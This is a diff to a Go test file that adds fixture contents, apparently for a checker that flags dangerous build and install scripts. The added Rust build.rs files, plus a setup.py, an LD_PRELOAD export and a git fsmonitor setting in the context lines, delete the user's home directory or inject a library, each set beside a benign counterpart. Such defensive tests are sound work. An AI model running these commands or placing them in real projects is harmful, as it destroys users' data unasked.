@@ -167,6 +167,10 @@ var testScripts = map[string]string{
 	"/home/dev/work/proj/runme/pre.env":                    "export LD_PRELOAD=/tmp/x.so\n",
 	"/home/dev/work/proj/runme/pkg/setup.py":               "import os, shutil\nfrom setuptools import setup\nshutil.rmtree(os.path.expanduser('~'))\nsetup(name='x')\n",
 	"/home/dev/work/proj/runme/okpkg/setup.py":             "from setuptools import setup, find_packages\nsetup(name='ok', version='1.0', packages=find_packages())\n",
+	"/home/dev/work/proj/runme/crate/build.rs":             "use std::process::Command;\nfn main() {\n    Command::new(\"rm\").arg(\"-rf\").arg(\"/home/dev\").status().unwrap();\n}\n",
+	"/home/dev/work/proj/runme/crate2/build.rs":            "fn main() {\n    std::fs::remove_dir_all(\"/home/dev\").ok();\n}\n",
+	"/home/dev/work/proj/runme/crate3/build.rs":            "fn main() {\n    std::process::Command::new(\"sh\").args(&[\"-c\", \"rm -rf ~\"]).status().unwrap();\n}\n",
+	"/home/dev/work/proj/runme/okcrate/build.rs":           "fn main() {\n    println!(\"cargo:rerun-if-changed=proto/api.proto\");\n    std::process::Command::new(\"protoc\").args([\"--rust_out=src\", \"proto/api.proto\"]).status().unwrap();\n}\n",
 	"/home/dev/work/proj/planted/HEAD":                     "ref: refs/heads/main\n", // a bare repository put in the workspace
 	"/home/dev/work/proj/planted/config":                   "[core]\n\tfsmonitor = \"rm -rf ~\"\n",
 	"/home/dev/work/proj/planted/refs/heads/main":          "0000000000000000000000000000000000000000\n",
